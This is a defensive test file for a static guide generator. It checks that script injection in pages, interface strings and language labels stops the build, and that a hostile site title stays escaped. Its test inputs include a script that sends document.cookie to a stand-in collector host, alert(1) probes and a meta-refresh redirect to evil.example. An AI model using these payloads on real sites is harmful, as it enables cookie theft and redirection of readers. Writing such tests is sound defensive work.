/**
 * Content that tries to run a script in the reader's browser, built for real in copies of a small
 * guide (tests/fixtures/): the build stops before Astro renders anything and names the file, the
 * line and the fix. And a script that reaches a built page some other way stops the policy stage,
 * which names the page and where the script came from.
 */
import { cpSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'node-html-parser';
import { afterAll, describe, expect, test } from 'vitest';
import { fixtureBuild } from '../fixture-guide/build';
import { guideCopy, type GuideCopy } from '../helpers/fixture';

const copies: GuideCopy[] = [];
afterAll(() => copies.forEach((c) => c.cleanup()));

function project(generator = false) {
	const copy = guideCopy({ generator });
	copies.push(copy);
	return copy;
}

/** The guide's second language (written right to left), and one of its tool pages. */
const guide = (copy: GuideCopy) => {
	const lang = copy.languages[1]!;
	const slug = copy.pages(lang, 'tools')[0]!;
	return { lang, slug, page: copy.page(lang, slug) };
};

/** The content check's block for one problem, as the build prints it. */
function expectStopped(output: string, status: number | null, file: string, line: number, what: string) {
	expect(status, output).not.toBe(0);
	expect(output).toContain('build: the content has 1 problem, listed above with the file and the fix');
	expect(output).toContain('1 content problem found:');
	expect(output).toContain(`1. ${file}\n`);
	expect(output).toContain(`at:   line ${line}, column `);
	expect(output).toContain(`what: ${what}`);
	expect(output).toContain('fix:  remove the element.');
	expect(output).not.toContain('policy  ');
}

describe('a script in content stops the build', () => {
	test('in an MDX page', () => {
		const copy = project();
		const { page } = guide(copy);
		copy.edit(page, (t) => t.replace(/\n## /, '\n<script>fetch("https://collector.example/?" + document.cookie)</script>\n\n## '));
		const { status, output } = copy.build();
		expectStopped(output, status, page, copy.lineOf(page, '<script>'), '<script> is not allowed in a page: it would run a script in readers’ browsers');
		expect(existsSync(join(copy.dir, 'dist'))).toBe(false);
	}, 180_000);

	test('in an interface string (downloads.version), which no page renders as HTML any more', () => {
		const copy = project();
		const file = `${copy.content}/i18n/${guide(copy).lang}.json`;
		copy.edit(file, (t) => t.replace('"downloads.version": "', '"downloads.version": "<script>alert(1)</script>'));
		const { status, output } = copy.build();
		expectStopped(output, status, file, copy.lineOf(file, '"downloads.version"'), '<script> is not allowed in content');
	}, 180_000);

	test('in a language label, shown on every page', () => {
		const copy = project();
		const file = `${copy.content}/data/languages.yaml`;
		const label = readFileSync(join(copy.dir, file), 'utf8').match(/^ {2}label: .*$/gm)![1]!;
		copy.edit(file, (t) => t.replace(label, `${label}<script>alert(1)</script>`));
		const { status, output } = copy.build();
		expectStopped(output, status, file, copy.lineOf(file, label), '<script> is not allowed in content');
	}, 180_000);
});

describe('a title is text wherever the generator writes it', () => {
	test('a site title that closes <title> and <style> and adds a meta refresh stays text in the pages, the handout and its print style sheet', () => {
		const copy = project(true);
		const { lang, slug } = guide(copy);
		// A copy whose content check reports nothing, whatever the content: what is tested is how pages write a title.
		copy.editGenerator('src/check/check-content.ts', (t) => t.replace('export function checkContent(root: string): CheckResult {', 'export function checkContent(root: string): CheckResult {\n\tif (root) return { problems: [], data: realCheck(root).data };\n\treturn realCheck(root);\n}\nfunction realCheck(root: string): CheckResult {'));
		// Nor does the page schema refuse markup in a title (src/schemas/page.ts), which stops the handout and the card.
		copy.editGenerator('src/schemas/page.ts', (t) => t.replace('.refine((text) => !MARKUP.test(text),', '.refine((text) => text.length >= 0,'));
		const hostile = 'Guide</title></style><meta http-equiv="refresh" content="0;url=https://evil.example/">';
		copy.edit(`${copy.content}/i18n/${lang}.json`, (t) => t.replace(/"site\.title": "[^"]*"/, `"site.title": ${JSON.stringify(hostile)}`));
		const { status, output } = copy.build(['--only', 'site']);
		expect(status, output).toBe(0);
		for (const page of [`dist/${lang}/index.html`, `dist/${lang}/${slug}/index.html`, `dist/${lang}/handout/index.html`, `dist/${lang}/card/index.html`]) {
			const document = parse(readFileSync(join(copy.dir, page), 'utf8'));
			expect(document.querySelectorAll('meta[http-equiv]').length, page).toBe(0);
			expect(document.querySelector('title')!.text, page).toContain(hostile);
		}
		expect(readFileSync(join(copy.dir, `dist/${lang}/handout/index.html`), 'utf8')).toContain('@top-center{content:"Guide\\3c /title>\\3c /style>\\3c meta');
	}, 180_000);
});

describe('a script in a built page that the generator did not write', () => {
	test('stops the build at the policy stage even when the content check is bypassed, naming the page and the MDX line', () => {
		const copy = project(true);
		const { lang, slug, page } = guide(copy);
		// A copy whose content check no longer looks at pages or markup: the policy stage is the second lock.
		copy.editGenerator('src/check/check-content.ts', (t) => t.replace(/problems\.push\(\.\.\.pageProblems, \.\.\.checkMarkup\(root\)[^\n]*\n/, ''));
		copy.edit(page, (t) => t.replace(/\n## /, '\n<script>document.title = "collected"</script>\n\n## '));
		const { status, output } = copy.build(['--only', 'site,policy']);
		expect(status, output).not.toBe(0);
		expect(output).toContain('build: stage "policy" failed: 1 inline script that the generator does not write found in the built pages:');
		expect(output).toContain(`1. dist/${lang}/${slug}/index.html`);
		expect(output).toContain(`from: ${page}, line ${copy.lineOf(page, '<script>')}`);
	}, 180_000);

	test('stops the policy stage, naming the page and the content file and line it came from', async () => {
		const copy = project();
		const { lang, slug } = guide(copy);
		// The guide as astro build made it (tests/fixture-guide/build.ts, the build its own tests read), copied.
		cpSync((await fixtureBuild()).dist, join(copy.dir, 'dist'), { recursive: true });
		const script = 'document.title = "slipped past the content check"';
		// As if content had reached the page some way the content check does not read.
		const page = join(copy.dir, `dist/${lang}/${slug}/index.html`);
		writeFileSync(page, readFileSync(page, 'utf8').replace('</main>', `<script>${script}</script></main>`));
		const text = `${copy.content}/text/${lang}.yaml`;
		copy.edit(text, (t) => `${t}# ${script}\n`);
		const line = readFileSync(join(copy.dir, text), 'utf8').trimEnd().split('\n').length;
		const { status, output } = copy.build(['--only', 'policy']);
		expect(status, output).not.toBe(0);
		expect(output).toContain('build: stage "policy" failed: 1 inline script that the generator does not write found in the built pages:');
		expect(output).toContain(`1. dist/${lang}/${slug}/index.html\n   what: <script>${script}</script>\n   from: ${text}, line ${line}`);
		expect(output).toContain('fix:  remove the script from the file named.');
		// Nothing was sealed: the page is as it was found, and no server headers list the script.
		expect(readFileSync(page, 'utf8')).toContain(`<script>${script}</script>`);
	}, 180_000);
});
